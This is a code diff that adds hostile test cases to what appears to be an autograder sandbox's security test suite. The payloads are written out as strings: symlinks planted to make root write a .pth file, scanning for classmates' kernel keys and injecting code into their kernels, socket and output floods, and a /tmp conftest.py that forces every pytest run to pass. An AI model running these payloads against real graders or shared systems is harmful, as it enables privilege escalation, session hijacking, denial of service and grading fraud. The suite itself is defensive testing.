@@ -65,6 +65,9 @@ WEAK_HYPERPARAMS = [1e-6, 0.0, 1, 10]
 # The notebook checks such a network must lose: accuracies and the retraining.
 WEAK_NOTEBOOK = frozenset({"6.3", "6.4", "6.5"})
 RIGHT_ANSWER = "**Your answer:** 1, 3\n\n**Your explanation:** less overfitting."
+# A file every user may read, outside any grading: report.py writes it (DECOY_TEXT in it).
+DECOY = "/tmp/grader-hostile-decoy/autograder-elsewhere.py"
+DECOY_TEXT = "HIDDEN_CHECK_SOURCE_OF_ANOTHER_AUTOGRADER"
 
 
 @dataclass
@@ -95,7 +98,7 @@ class Context:
 
     def fill(self, code):
         """`code` with every HOSTILE_* placeholder replaced by a string literal."""
-        values = {"HOSTILE_RESULTS": self.results,
+        values = {"HOSTILE_RESULTS": self.results, "HOSTILE_DECOY": DECOY,
                   "HOSTILE_MARKER": self.marker, "HOSTILE_ROOT": self.root,
                   "HOSTILE_CIFAR10": self.cifar10, "HOSTILE_TMP": self.tmp,
                   "HOSTILE_FORGED": FORGED, "HOSTILE_FAKE_BANNER": FAKE_BANNER}
@@ -984,6 +987,175 @@ def _memorising_notebook(ctx):
 
 
 # ---------------------------------------------------------------------------
+# The hole classes outside attackers found in the first sandbox (issue 11).
+
+# Class 1: root follows a path student code planted. Before the kernel starts
+# (the old grader then copied files into the student's folder as root), and
+# where the grader used to read best_net back, leave links to a file root must
+# never write (a .pth in the grader's own environment runs as root in every
+# later Python), a FIFO (an open that never returns) and /dev/zero (a read that
+# never ends); try the grader's own folders too.
+PLANT_LINKS = RECORD + """
+import os as _os, site as _site
+_pth = _os.path.join(_site.getsitepackages()[0], "zz_hostile_root.pth")
+_plants = {".kernel-connection.json": ("symlink", _pth), ".grader_extract.json": ("fifo", None),
+           ".grader_extract.npz": ("symlink", "/dev/zero"), "classification_nn.ipynb": ("symlink", _pth),
+           "results.json": ("symlink", _pth)}
+_work = _os.path.dirname(_os.getcwd())
+for _folder in ("kernel", "ipc", "channel", "private", ""):
+    _plants[_os.path.join(_work, _folder, "connection.json")] = ("symlink", _pth)
+for _name, (_kind, _target) in _plants.items():
+    try:
+        if _os.path.lexists(_name):
+            _os.remove(_name)
+        if _kind == "fifo":
+            _os.mkfifo(_name)
+        else:
+            _os.symlink(_target, _name)
+        _hostile_record("planted", _name)
+    except OSError as _exc:
+        _hostile_record("planted", f"denied {_name}: {_exc!r}")
+"""
+
+# Class 1 and 4: the kernel abuses the channel the grader receives best_net on:
+# connections that claim a terabyte, stop mid-header, or never speak, many at once.
+CHANNEL_ABUSE = """
+import glob, os, socket, struct, threading, time
+_paths = glob.glob("/run/grader-sandbox-slots/s*/channel/*") + glob.glob("/tmp/grader-s-*/channel/*")
+_held = []
+def _abuse():
+    end = time.time() + 60
+    while time.time() < end:
+        for path in _paths:
+            for payload in (struct.pack(">Q", 1 << 40), b"\\x00\\x00", b""):
+                try:
+                    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+                    s.connect(path)
+                    if payload:
+                        s.sendall(payload)
+                    _held.append(s)
+                except OSError:
+                    pass
+        time.sleep(0.2)
+threading.Thread(target=_abuse, daemon=True).start()
+os.write(2, f"HOSTILE_EVIDENCE channel: found {_paths}\\n".encode())
+"""
+
+# Class 2: a classmate graded at the same time. Look for other gradings'
+# connection files, kernel sockets and layer files, read what can be read, and
+# drive any kernel found with any key found (best_net = None in it).
+READ_CLASSMATES = """
+import glob, json, os, time
+def _look():
+    found = {}
+    for pattern in ("/tmp/grader-*/kernel/*", "/tmp/*/grader-*/kernel/*", "/tmp/grader-*/home/layers/*.py",
+                    "/tmp/*/grader-*/home/layers/*.py", "/run/grader-sandbox-slots/s*/ipc/*",
+                    "/tmp/grader-s-*/ipc/*", "/proc/*/cmdline"):
+        own = os.path.dirname(os.getcwd())  # this grading's own folder
+        for path in glob.glob(pattern):
+            if own in path or "/self/" in path or "/thread-self/" in path:
+                continue
+            try:
+                with open(path, "rb") as f:
+                    data = f.read(4096)
+                # Another kernel's command line names its connection file.
+                if path.startswith("/proc/") and (b"ipykernel" not in data or own.encode() in data):
+                    continue
+                found[path] = data
+            except OSError:
+                pass
+    return found
+_end = time.time() + 20
+_seen = {}
+while time.time() < _end and not any("connection" in p or p.endswith(".py") for p in _seen):
+    _seen.update(_look())
+    time.sleep(0.5)
+for _path in sorted(_seen):
+    os.write(2, f"HOSTILE_EVIDENCE classmates: read {_path}\\n".encode())
+_keys = []
+for _path, _data in _seen.items():
+    try:
+        _keys.append(json.loads(_data)["key"])
+    except Exception:
+        pass
+try:
+    import zmq
+    from jupyter_client.session import Session
+    for _path in glob.glob("/run/grader-sandbox-slots/s*/ipc/*") + glob.glob("/tmp/grader-s-*/ipc/*"):
+        for _key in _keys:
+            _ctx = zmq.Context.instance()
+            _sock = _ctx.socket(zmq.DEALER)
+            _sock.connect("ipc://" + _path)
+            Session(key=_key.encode()).send(_sock, "execute_request", {
+                "code": "best_net = None", "silent": False, "store_history": False,
+                "user_expressions": {}, "allow_stdin": False, "stop_on_error": False})
+            os.write(2, f"HOSTILE_EVIDENCE classmates: sent code to {_path}\\n".encode())
+except Exception as _exc:
+    os.write(2, f"HOSTILE_EVIDENCE classmates: zmq: {_exc!r}\\n".encode())
+os.write(2, f"HOSTILE_EVIDENCE background: looked ({len(_seen)} found)\\n".encode())
+"""
+
+# Class 3: a file on the machine that is readable by every user: another copy
+# of the autograder, unpacked where the instructor left it.
+READ_DECOY = RECORD + """
+_hostile_forward = Linear.forward
+
+
+def _reading_forward(self, input_x):
+    try:
+        with open(HOSTILE_DECOY) as _f:
+            _text = _f.read()
+        _hostile_record("decoy", "read")
+    except OSError as _exc:
+        _hostile_record("decoy", f"denied: {_exc!r}")
+        return _hostile_forward(self, input_x)
+    raise RuntimeError(_text)
+
+
+Linear.forward = _reading_forward
+"""
+
+# Class 4: a notebook made to cost the grader's own reading time: 20,000 cells
+# that mention every word the plot and test-accuracy checks look for.
+def _plot_mention_notebook(ctx):
+    import nbformat
+    nb = weak_notebook(ctx)
+    words = "# plt.plot(loss_history) plt.imshow(visualize_grid(W1)) best_net x_test loss"
+    nb.cells += [nbformat.v4.new_code_cell(f"pass  {words} {i}") for i in range(20_000)]
+    return nb
+
+
+# Class 4: a cell that prints far more than any notebook needs.
+OUTPUT_FLOOD = """
+import sys
+_line = "x" * (1 << 20)
+for _ in range(400):  # 400 MiB of printed text
+    sys.stdout.write(_line)
+    sys.stdout.flush()
+"""
+
+# Class 7: what student code leaves in the machine's world-writable folders
+# outlives the grading: a conftest.py and pytest.ini in /tmp make every later
+# pytest run under /tmp pass whatever it tests.
+LEAVE_PYTEST_CONFIG = RECORD + """
+import os as _os
+_CONFTEST = (
+    "import pytest\\n"
+    "@pytest.hookimpl(hookwrapper=True)\\n"
+    "def pytest_runtest_makereport(item, call):\\n"
+    "    outcome = yield\\n"
+    "    outcome.get_result().outcome = 'passed'\\n")
+for _path, _text in (("/tmp/conftest.py", _CONFTEST), ("/tmp/pytest.ini", "[pytest]\\naddopts = -p no:warnings\\n"),
+                     ("/var/tmp/zz-hostile-left", "x"), ("/dev/shm/zz-hostile-left", "x")):
+    try:
+        with open(_path, "w") as _f:
+            _f.write(_text)
+        _hostile_record("left", _path)
+    except OSError as _exc:
+        _hostile_record("left", f"denied {_path}: {_exc!r}")
+"""
+
+# ---------------------------------------------------------------------------
 
 ATTACKS = [
     # Notebooks first: they take longest, so they start first.
@@ -1089,6 +1261,40 @@ ATTACKS = [
            "Linear.forward loops on a batch of one",
            fails={LF, LB}, append={LINEAR: CROSS_KILL}, victim=True, budget=60, user_switch=True,
            post=("victim_unharmed",)),
+    # The hole classes of issue 11 (see above).
+    Attack("plants_links_where_the_grader_looks",
+           "class 1: links to the venv (.pth), a FIFO and /dev/zero planted where the grader used to "
+           "copy the kernel's key and read best_net; bias forgotten; a weak notebook",
+           bug="linear_forgot_bias", append={LINEAR: PLANT_LINKS}, fails=WEAK_NOTEBOOK, budget=120,
+           post=("venv_untouched", "grader_memory"),
+           notebook=lambda ctx: weak_notebook(ctx)),
+    Attack("kernel_abuses_the_channel",
+           "class 1/4: the kernel floods the grader's best_net channel with connections that lie, "
+           "stall or never speak; a weak notebook",
+           fails=WEAK_NOTEBOOK, budget=150, post=("grader_memory",),
+           notebook=lambda ctx: weak_notebook(ctx, after_test=[CHANNEL_ABUSE, "import time\ntime.sleep(3)"])),
+    Attack("reads_classmates",
+           "class 2: the kernel looks for other gradings' keys, sockets and layer files and drives "
+           "any kernel it finds; graded beside a classmate; a weak notebook",
+           fails=WEAK_NOTEBOOK, budget=150, victim=True, post=("victim_unharmed", "classmates_unread"),
+           notebook=lambda ctx: weak_notebook(ctx, after_test=[READ_CLASSMATES])),
+    Attack("reads_another_autograder",
+           "class 3: Linear.forward reads a world-readable copy of hidden checks elsewhere on the "
+           "machine and raises its text; bias forgotten", bug="linear_forgot_bias",
+           append={LINEAR: READ_DECOY},
+           post=("decoy_not_shown",)),
+    Attack("notebook_20000_plot_cells",
+           "class 4: 20,000 cells naming every word the plot checks look for (2 MB); a weak notebook",
+           fails={"6.1"} | WEAK_NOTEBOOK, budget=150, notebook=_plot_mention_notebook),
+    Attack("notebook_output_flood",
+           "class 4: a cell prints 400 MiB; a weak notebook",
+           fails=WEAK_NOTEBOOK, budget=150, post=("grader_memory",),
+           notebook=lambda ctx: weak_notebook(ctx, after_test=[OUTPUT_FLOOD])),
+    Attack("leaves_pytest_config_in_tmp",
+           "class 7: conftest.py and pytest.ini left in /tmp (every later pytest run under /tmp "
+           "passes), files in /var/tmp and /dev/shm; bias forgotten",
+           bug="linear_forgot_bias", append={LINEAR: LEAVE_PYTEST_CONFIG},
+           post=("nothing_left_outside",)),
     # Last and alone: while it runs, the sandbox user's process limit is used up.
     Attack("fork_bomb", "ReLU.backward forks 5000 children that setsid and sleep; mask on the wrong side",
            bug="relu_mask_wrong_side", append={RELU: FORK_BOMB}, alone=True, budget=60),
